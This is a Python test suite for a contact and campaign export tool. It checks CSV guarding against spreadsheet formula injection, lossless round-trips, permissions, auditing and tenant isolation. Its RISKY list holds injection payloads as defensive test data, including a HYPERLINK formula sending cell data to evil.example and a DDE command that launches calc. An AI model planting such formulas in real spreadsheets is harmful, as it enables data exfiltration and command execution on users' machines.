"""Files for people: safe in a spreadsheet, read back without loss, for those who may, and of one moment."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
from collections.abc import AsyncGenerator, Callable
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import NOW
from tests.tools.histories import happened, people, rolled_up, sent
from tools import BY_NAME, exports
from tools.base import Actor, Context, Tenant
from tools.errors import InvalidArguments, NobodyMatches, NoSuchCampaign, NotAllowed
from tools.spreadsheet import MARK, guarded, is_ours, unguarded

# Cells that Excel, LibreOffice or Sheets would run, or would read as something else than the text.
RISKY = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1)", "=cmd|' /C calc'!A0", "+441134960123", "-2+3", "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000＝1", "＝1＋1", "＠SUM", "－1", "＋44", "\"=1\"", "'=1", "''=1",
    "\u200b=1", "\ufeff=1", "\x1f=1", "\ttab first", "\rreturn first", "  +44 113", "-", "=", "--", "=\"a\nb\"",
    # Where a reader splits at another separator, or at a line break, a cell begins.
    "ring;=1+1;after", "ring;\"=1+1;x", "ring\n=1+1", "ring\r\n=1+1", "ring;  @SUM(1)", "a\tb\t-1", "ring;'=1",
]  # fmt: skip
HARMLESS = [
    "",
    "Ada",
    "ada@example.org",
    "20 % off",
    "O'Brien",
    "'tis",
    "a = b",
    "1-2",
    "line\nline",
    "well; yes",
    " x",
]


@pytest.mark.parametrize("text", RISKY)
def test_what_a_spreadsheet_could_run_is_text(text: str) -> None:
    safe = guarded(text)
    assert safe.startswith("'") or text[:1] in "ar"
    for separator in (",", ";", "\t"):
        # As a spreadsheet reads it that does not know our quotes.
        for line in safe.replace("\r", "\n").split("\n"):
            for cell in line.split(separator):
                assert cell.strip(' \t\u00a0\u3000\u200b\ufeff\x1f"')[:1] not in tuple("=+-@＝＋－＠"), (
                    safe,
                    separator,
                )
    assert unguarded(safe) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet="=+-@＝'\" \t\r\n;,ab\u200b|\u00a0", max_size=12))
def test_the_way_back_is_exact(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_a_file_of_ours_is_known_by_its_mark() -> None:
    assert is_ours(exports.CONTACT_COLUMNS)
    assert is_ours(["email", f" {MARK.upper()} "])
    assert not is_ours(["email", "id"])


# Contacts

NOTE = 'said "no, thanks"; then\r\ncame back,\n- twice\n=SUM(A1)'

CONTACTS: list[dict[str, Any]] = [
    {"email": "ada@example.org", "first_name": "Ada", "last_name": "Lovelace", "phone_number": "+441134960123",
     "description": NOTE, "tags": ["vip", "old customer"], "time_zone": "Europe/London",
     "attributes": {"size": 9, "colours": ["red", "=blue"], "since": "2019", "deep": {"a": None, "b": True}}},
    {"email": "bob@example.org", "status": "unsubscribed", "description": "'=1 as he typed it", "tags": ["-x"]},
    {"email": "Çelik@example.net", "first_name": "=Ali", "last_name": "@Çelik", "status": "bounced"},
    {"email": "dora@example.org", "status": "unconfirmed", "description": "\tdora"},
    {"email": "eve@example.org", "status": "complained", "last_name": "森脇", "description": "古い柱時計"},
]  # fmt: skip


async def stored(ctx: Context, rows: list[dict[str, Any]] = CONTACTS) -> None:
    async with ctx.database.transaction(ctx.tenant.id) as db:
        for row in rows:
            columns = {"attributes": {}, **row}
            columns["attributes"] = json.dumps(columns["attributes"])
            names = ", ".join(columns)
            await db.execute(
                f"INSERT INTO contacts (tenant_id, {names}) VALUES (%s{', %s' * len(columns)})".encode(),
                (ctx.tenant.id, *columns.values()),
            )
            if row.get("status") in ("unsubscribed", "bounced", "complained"):
                await db.execute(
                    "INSERT INTO suppressions (tenant_id, address_hash, reason) VALUES (%(t)s,"
                    " suppression_hash(%(t)s, %(e)s), %(r)s)",
                    {"t": ctx.tenant.id, "e": row["email"], "r": row["status"]},
                )


async def text_of(pieces: AsyncGenerator[str]) -> str:
    return "".join([piece async for piece in pieces])


async def rows_of(pieces: AsyncGenerator[str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(await text_of(pieces), newline="")))


SAME = "email, first_name, last_name, phone_number, description, status, tags, time_zone, attributes"


async def everything(ctx: Context) -> list[Any]:
    async with ctx.database.transaction(ctx.tenant.id) as db:
        found = await (await db.execute(f"SELECT {SAME} FROM contacts ORDER BY lower(email)".encode())).fetchall()
        suppressed = await db.execute(
            "SELECT c.email, s.reason FROM contacts c JOIN suppressions s"
            " ON s.address_hash = suppression_hash(c.tenant_id, c.email) ORDER BY 1"
        )
        return [found, await suppressed.fetchall()]


async def test_an_export_is_imported_again_without_loss(ctx: Context, new_tenant: Callable[..., Tenant]) -> None:
    await stored(ctx)
    text = await text_of(exports.contacts(ctx))
    other = dataclasses.replace(ctx, tenant=new_tenant())
    imported = await BY_NAME["import_contacts"].call({"csv": text}, other)
    assert (imported.created, imported.problem_count) == (len(CONTACTS), 0)
    people, suppressed = await everything(ctx)
    # For an import, here as elsewhere, white space around a text is no part of it, and a line break is one character.
    tidy = [
        tuple(each.replace("\r\n", "\n").strip() if isinstance(each, str) else each for each in row) for row in people
    ]
    assert await everything(other) == [tidy, suppressed]
    again = await text_of(exports.contacts(other))
    assert next(csv.DictReader(io.StringIO(again)))["phone_number"] == "'+441134960123"
    repeated = await BY_NAME["import_contacts"].call({"csv": again}, other)
    assert (repeated.created, repeated.changed) == (0, 0)


async def test_a_tag_holds_no_separator_so_that_tags_come_back(ctx: Context) -> None:
    given = {"email": "ada@example.org", "tags": ["Oak, brass", "vip;trade", "a|b"]}
    saved = await BY_NAME["create_contact"].call(given, ctx)
    assert saved.contact.tags == ["oak", "brass", "vip", "trade", "a", "b"]


async def test_no_cell_of_a_csv_is_a_formula(ctx: Context) -> None:
    rows = [{"email": f"p{n}@example.org", "first_name": text[:100], "last_name": text[:100], "description": text,
             "tags": [text.strip() or "x"], "attributes": {text: text}}
            for n, text in enumerate(RISKY)]  # fmt: skip
    await stored(ctx, rows)
    for row in await rows_of(exports.contacts(ctx)):
        for name, cell in row.items():
            assert cell.strip(' \t\r\n\u00a0\u3000\u200b\ufeff\x1f"')[:1] not in tuple("=+-@＝＋－＠"), (name, cell)


async def test_json_has_every_text_as_it_is(ctx: Context) -> None:
    await stored(ctx)
    listed = json.loads(await text_of(exports.contacts(ctx, form="json")))
    lines = [json.loads(line) for line in (await text_of(exports.contacts(ctx, form="jsonl"))).splitlines()]
    assert listed == lines
    assert listed[0]["description"] == NOTE
    assert listed[0]["phone_number"] == "+441134960123"
    assert listed[0]["attributes"] == CONTACTS[0]["attributes"]
    assert listed[0]["tags"] == ["vip", "old customer"]
    assert listed[1]["suppression_reason"] == "unsubscribed"
    assert listed[0]["created_at_utc"].endswith("Z")


async def test_nobody_is_an_empty_file_with_a_header(ctx: Context) -> None:
    assert await rows_of(exports.contacts(ctx)) == []
    assert (await text_of(exports.contacts(ctx))).startswith("email,first_name,")
    assert json.loads(await text_of(exports.contacts(ctx, form="json"))) == []
    assert await text_of(exports.contacts(ctx, form="jsonl")) == ""


async def test_excel_gets_a_byte_order_mark(ctx: Context) -> None:
    text = await text_of(exports.contacts(ctx, mark_for_excel=True))
    assert text.encode().startswith(b"\xef\xbb\xbfemail,")


async def test_whom_a_filter_or_a_search_means(ctx: Context) -> None:
    for email, note, tags in (
        ("ada@example.org", "restores old clocks", ["vip"]), ("bob@example.org", "keeps bees", ["vip", "trade"]),
        ("eve@example.org", "winds a clock every Sunday", []),
    ):  # fmt: skip
        await BY_NAME["create_contact"].call({"email": email, "description": note, "tags": tags}, ctx)
    await BY_NAME["create_campaign"].call({"name": "Lamp Week"}, ctx)
    await BY_NAME["add_contacts_to_campaign"].call({"campaign": "Lamp Week", "emails": ["eve@example.org"]}, ctx)

    async def exported(**which: Any) -> list[str]:
        return [row["email"] for row in await rows_of(exports.contacts(ctx, **which))]

    assert await exported(tags=["VIP"]) == ["ada@example.org", "bob@example.org"]
    assert await exported(tags=["vip", "trade"]) == ["bob@example.org"]
    assert await exported(campaign="lamp week") == ["eve@example.org"]
    assert await exported(status="unsubscribed") == []
    assert await exported(query="vip") == ["ada@example.org", "bob@example.org"]
    found = await BY_NAME["search_contacts"].call({"query": "clocks"}, ctx)
    assert await exported(query="clocks") == sorted(contact.email for contact in found.contacts)
    assert "bob@example.org" not in await exported(query="clocks")
    with pytest.raises(NobodyMatches):
        await exported(query="quantum chromodynamics zzyzx", campaign="lamp week", tags=["vip"])
    with pytest.raises(NoSuchCampaign):
        await exported(campaign="Lmap")
    with pytest.raises(InvalidArguments, match="no status"):
        await exported(status="asleep")


async def audit(ctx: Context) -> list[Any]:
    async with ctx.database.transaction(ctx.tenant.id) as db:
        cursor = await db.execute(
            "SELECT tool, outcome, arguments, subjects FROM audit_log WHERE tool LIKE 'export%' ORDER BY at, audit_id"
        )
        return await cursor.fetchall()


@pytest.mark.parametrize("what", ["contacts", "results", "recipients"])
async def test_a_viewer_may_not_export_and_that_is_on_record(ctx: Context, what: str) -> None:
    await BY_NAME["create_campaign"].call({"name": "Lamp Week"}, ctx)
    viewer = dataclasses.replace(ctx, actor=Actor("Sam", "viewer"))
    pieces = exports.recipients(viewer, "Lamp Week") if what == "recipients" else getattr(exports, what)(viewer)
    with pytest.raises(NotAllowed, match="editor"):
        await text_of(pieces)
    name = "export contacts" if what == "contacts" else "export results"
    assert await audit(ctx) == [(name, "refused: not_allowed", {}, [])]


async def test_an_export_is_on_record_and_names_nobody(ctx: Context) -> None:
    await stored(ctx)
    await BY_NAME["create_campaign"].call({"name": "Lamp Week"}, ctx)
    await text_of(exports.contacts(ctx, query="Ada Lovelace", tags=["vip"]))
    ((_, outcome, arguments, _),) = await audit(ctx)
    assert outcome == "done"
    assert arguments == {"format": "csv", "rows": 1, "query": "…", "tags": "…"}


async def test_another_tenants_rows_are_in_no_file(ctx: Context, new_tenant: Callable[..., Tenant]) -> None:
    await stored(ctx)
    other = dataclasses.replace(ctx, tenant=new_tenant())
    assert await rows_of(exports.contacts(other)) == []
    campaign = await BY_NAME["create_campaign"].call({"name": "Lamp Week"}, ctx)
    with pytest.raises(NoSuchCampaign):
        await text_of(exports.recipients(other, str(campaign.campaign.campaign_id)))


async def test_an_export_shows_one_moment(ctx: Context) -> None:
    await stored(ctx, [{"email": f"p{n:04}@example.org"} for n in range(2_500)])
    pieces = exports.contacts(ctx)
    first = await anext(pieces) + await anext(pieces)
    async with ctx.database.transaction(ctx.tenant.id) as db:
        await db.execute("DELETE FROM contacts")
    assert len((first + await text_of(pieces)).splitlines()) == 2_501


def resident() -> int:
    """The memory of this process in bytes, libpq's included."""
    return int(Path("/proc/self/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="Linux tells how much memory a process holds")
async def test_memory_does_not_grow_with_the_rows(ctx: Context) -> None:
    async with ctx.database.transaction(ctx.tenant.id) as db:
        await db.execute(
            "INSERT INTO contacts (tenant_id, email, description)"
            " SELECT %s, 'p' || n || '@example.org', repeat('a note about somebody ', 100)"
            " FROM generate_series(1, 25000) n",
            (ctx.tenant.id,),
        )
    await text_of(exports.contacts(ctx, status="bounced"))  # what is loaded once
    size, before, most = 0, resident(), 0
    async for piece in exports.contacts(ctx):
        size += len(piece)
        most = max(most, resident())
    assert size > 50_000_000
    assert most - before < 25_000_000


# Results


async def history(ctx: Context) -> list[UUID]:
    ids = await people(ctx, 60)
    at = NOW - timedelta(days=7)
    campaign = await sent(ctx, "=Lamp Week", ids, at, opened=ids[:30], clicked=ids[:6], roll_up=False)
    later = at + timedelta(hours=5)
    await happened(ctx, campaign, [
        (ids[0], "click", "human", later, "https://shop.example/0", None),
        (ids[1], "open", "machine", later, None, None), (ids[40], "open", "machine", later, None, None),
        (ids[0], "conversion", "human", later, None, Decimal("12.50")),
        (ids[0], "conversion", "human", later, None, Decimal("-2.00")),
        (ids[50], "unsubscribe", "human", later, None, None), (ids[51], "bounce", "human", later, None, None),
        (ids[52], "complaint", "human", later, None, None),
    ])  # fmt: skip
    await rolled_up(ctx, campaign)
    return ids


async def test_one_row_a_campaign_as_in_its_summary(ctx: Context) -> None:
    await history(ctx)
    await BY_NAME["create_campaign"].call({"name": "Not yet"}, ctx)
    first, second = await rows_of(exports.results(ctx))
    assert (first["campaign"], first["status"]) == ("'=Lamp Week", "completed")
    figures = (await BY_NAME["summarize_performance"].call({"campaign": "=Lamp Week"}, ctx)).figures
    for name in ("sent", "delivered", "bounced", "opened", "clicked", "total_clicks", "conversions", "converted",
                 "unsubscribed", "complained", "machine_opens", "machine_clicks"):  # fmt: skip
        assert int(first[name]) == getattr(figures, name), name
    assert Decimal(first["conversion_value"]) == figures.value == Decimal("10.50")
    assert float(first["open_rate"]) == round(figures.open_rate.share, 4)
    assert float(first["click_rate_low"]) == round(figures.click_rate.low, 4)
    assert first["first_sent_at_utc"] == "2026-11-18T10:00:00Z"
    assert (second["campaign"], second["sent"], second["open_rate"], second["first_sent_at_utc"]) == (
        "Not yet", "0", "", "",
    )  # fmt: skip


async def test_one_row_a_recipient_whose_sums_are_the_summary(ctx: Context) -> None:
    ids = await history(ctx)
    rows = await rows_of(exports.recipients(ctx, "=Lamp Week"))
    assert len(rows) == len(ids)
    figures = (await BY_NAME["summarize_performance"].call({"campaign": "=Lamp Week"}, ctx)).figures
    assert sum(1 for row in rows if row["first_open_at_utc"]) == figures.opened
    assert sum(1 for row in rows if row["first_click_at_utc"]) == figures.clicked
    assert sum(int(row["clicks"]) for row in rows) == figures.total_clicks
    assert sum(int(row["machine_opens"]) for row in rows) == figures.machine_opens
    assert sum(Decimal(row["conversion_value"]) for row in rows) == figures.value
    assert [row["contact_id"] for row in rows if row["unsubscribed_at_utc"]] == [str(ids[50])]
    assert [row["contact_id"] for row in rows if row["bounced_at_utc"]] == [str(ids[51])]
    best = next(row for row in rows if row["contact_id"] == str(ids[0]))
    names = ("state", "sent_at_utc", "first_open_at_utc", "clicks", "conversion_value")
    assert [best[name] for name in names] == ["sent", "2026-11-18T10:00:00Z", "2026-11-18T11:00:00Z", "2", "10.50"]


async def test_a_campaign_that_was_not_sent_lists_its_people(ctx: Context) -> None:
    await BY_NAME["create_contact"].call({"email": "ada@example.org", "first_name": "Ada"}, ctx)
    await BY_NAME["create_campaign"].call({"name": "Lamp Week", "audience": "everyone"}, ctx)
    (row,) = await rows_of(exports.recipients(ctx, "lamp week"))
    assert (row["address"], row["first_name"], row["state"], row["opens"]) == (
        "ada@example.org",
        "Ada",
        "not sent",
        "0",
    )


async def test_progress_is_told(ctx: Context) -> None:
    await stored(ctx, [{"email": f"p{n:04}@example.org"} for n in range(1_200)])
    heard: list[tuple[int, int | None]] = []
    await text_of(exports.contacts(ctx, progress=lambda done, total: heard.append((done, total))))
    assert heard == [(1_000, 1_200), (1_200, 1_200)]
